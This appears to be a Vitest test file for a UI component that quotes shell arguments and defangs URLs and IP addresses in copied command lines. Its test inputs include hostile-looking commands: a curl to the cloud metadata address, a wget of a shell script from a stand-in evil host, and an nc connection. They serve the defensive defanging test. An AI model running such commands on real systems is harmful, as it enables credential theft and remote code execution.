import { describe, expect, it } from 'vitest'
import { defang, shellLine } from '@/components/ui/command-line/copied-forms'

describe('shellLine', () => {
  it.each([
    [['curl', '-s', 'http://x/'], 'curl -s http://x/'],
    [['sh', '-c', 'echo "hi" && id'], `sh -c 'echo "hi" && id'`],
    [['echo', "it's"], String.raw`echo 'it'\''s'`],
    [['echo', ''], "echo ''"],
  ])('quotes %j', (args, line) => {
    expect(shellLine(args)).toBe(line)
  })
})

describe('defang', () => {
  it.each([
    ['curl http://169.254.169.254/latest', 'curl hxxp://169[.]254[.]169[.]254/latest'],
    ['wget https://evil.example.com/a.sh', 'wget hxxps://evil[.]example[.]com/a.sh'],
    ['nc 10.1.2.3 443', 'nc 10[.]1[.]2[.]3 443'],
    ['ls a.b', 'ls a.b'],
  ])('defangs %s', (text, expected) => {
    expect(defang(text)).toBe(expected)
  })
})
